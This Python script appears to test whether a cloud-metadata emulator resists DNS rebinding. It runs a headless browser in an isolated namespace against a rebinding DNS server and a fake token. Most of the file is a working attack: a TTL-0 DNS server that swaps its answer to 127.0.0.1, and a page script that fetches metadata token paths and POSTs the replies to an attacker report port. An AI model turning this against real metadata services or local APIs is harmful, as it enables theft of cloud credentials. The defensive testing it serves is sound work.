"""Attacks an emulator that holds real tokens by DNS rebinding, from a real browser.

    attack.py BROWSER ATTACKER PORT

Runs inside a network namespace of its own (`run` makes it). The browser opens a page of
http://rebind.test:PORT/ from an attacker at the address ATTACKER. The attacker then closes its port
and its DNS server answers with the emulator's address, so that the page's own origin is the
emulator. The page asks for a token in every way that a page can, and reports what it was answered
to the attacker's other port.

Prints one JSON object: {"answers": [[status, body], ...], "leaked": bool}. The answers prove that the
page reached the emulator: without a single one, the attack itself has failed, and `run` says so.
"""

import http.server
import json
import os
import socket
import struct
import subprocess
import sys
import tempfile
import threading
import time

NAME = "rebind.test"
VICTIM = "127.0.0.1"
SECONDS = 90
SECRET = "ya29.REAL"

PAGE = """<!doctype html><meta charset="utf-8"><title>rebinding</title><script>
const paths = [
  "/computeMetadata/v1/instance/service-accounts/default/token",
  "/computeMetadata/v1/?recursive=true",
  "/computeMetadata/v1/instance/id",
  "/emulator/", "/emulator/v1/requests", "/emulator/v1/document",
];
const report = (what) => fetch("http://%(attacker)s:%(report)d/", {
  method: "POST", mode: "no-cors", body: JSON.stringify(what) });
async function ask(path, options) {
  try {
    const answer = await fetch(path, options);
    await report([path, answer.status, (await answer.text()).slice(0, 400)]);
  } catch (error) { await report([path, 0, String(error)]); }
}
async function attack() {
  for (;;) {
    for (const path of paths) {
      await ask(path, { headers: { "Metadata-Flavor": "Google" }, cache: "no-store" });
      await ask(path, { cache: "no-store" });
    }
    await ask("/emulator/v1/document/instance/attributes/a", { method: "PUT", body: '"x"' });
    await new Promise((done) => setTimeout(done, 500));
  }
}
setTimeout(attack, 1500);
</script>"""


class Names(threading.Thread):
    """A DNS server that answers for NAME with the address it is set to, and with a TTL of 0."""

    def __init__(self, address):
        super().__init__(daemon=True)
        self.address = address
        self.socket = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self.socket.bind(("127.0.0.53", 53))

    def run(self):
        while True:
            query, peer = self.socket.recvfrom(4096)
            self.socket.sendto(self.answer(query), peer)

    def answer(self, query):
        end = 12
        while query[end]:
            end += query[end] + 1
        end += 5
        name = b".".join(labels(query[12:end - 5])).decode()
        kind = struct.unpack("!H", query[end - 4:end - 2])[0]
        known = name.lower() == NAME
        address = known and kind == 1
        head = query[:2] + struct.pack("!HHHHH", 0x8180 if known else 0x8183, 1, int(address), 0, 0)
        record = b"\xc0\x0c" + struct.pack("!HHIH", 1, 1, 0, 4) + socket.inet_aton(self.address)
        return head + query[12:end] + (record if address else b"")


def labels(encoded):
    found, at = [], 0
    while at < len(encoded) and encoded[at]:
        found.append(encoded[at + 1:at + 1 + encoded[at]])
        at += encoded[at] + 1
    return found


def forget_names():
    """Changes the network, at which a browser forgets the names it looked up; else it keeps them for a minute."""
    for step in ("link add net0 type veth peer name net1", "address add 10.92.0.1/24 dev net0",
                 "link set net1 up", "link set net0 up"):
        subprocess.run(["ip", *step.split()], check=False)


def serve(address, port, handler):
    server = http.server.ThreadingHTTPServer((address, port), handler)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    return server


def main():
    browser, attacker, port = sys.argv[1], sys.argv[2], int(sys.argv[3])
    answers, served = [], threading.Event()

    class Report(http.server.BaseHTTPRequestHandler):
        def do_POST(self):
            body = self.rfile.read(int(self.headers["content-length"]))
            answers.append(json.loads(body))
            self.send_response(204)
            self.end_headers()

        def log_message(self, *_):
            pass

    report = serve(attacker, 0, Report)
    page = (PAGE % {"attacker": attacker, "report": report.server_address[1]}).encode()

    class Page(http.server.BaseHTTPRequestHandler):
        def do_GET(self):
            self.send_response(200)
            self.send_header("content-type", "text/html")
            self.send_header("content-length", str(len(page)))
            self.send_header("connection", "close")
            self.end_headers()
            self.wfile.write(page)
            self.close_connection = True
            if self.path == "/":
                served.set()

        def log_message(self, *_):
            pass

    names = Names(attacker)
    names.start()
    first = serve(attacker, port, Page)
    # Its children may still write as it ends.
    profile = tempfile.TemporaryDirectory(ignore_cleanup_errors=True)
    command = [
        browser, "--headless", "--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run",
        "--disable-background-networking", "--disable-component-update", "--disable-sync",
        f"--user-data-dir={profile.name}", "--remote-debugging-port=0",
        f"http://{NAME}:{port}/",
    ]
    child = subprocess.Popen(command, env={**os.environ, "TMPDIR": profile.name}, stdout=subprocess.DEVNULL, stderr=subprocess.PIPE)
    try:
        if not served.wait(SECONDS):
            print(json.dumps({"answers": [], "leaked": False, "why": "the browser asked for no page"}))
            return
        # The port is closed before the name changes, so that the browser has to look again.
        first.shutdown()
        first.server_close()
        names.address = VICTIM
        forget_names()
        end = time.monotonic() + SECONDS
        while time.monotonic() < end and sum(1 for _, status, _ in answers if status) < 14:
            time.sleep(0.2)
        reached = [answer for answer in answers if answer[1]]
        leaked = any(SECRET in body for _, _, body in reached)
        print(json.dumps({"answers": reached, "failed": len(answers) - len(reached), "leaked": leaked}))
    finally:
        child.kill()
        child.wait()
        profile.cleanup()


main()
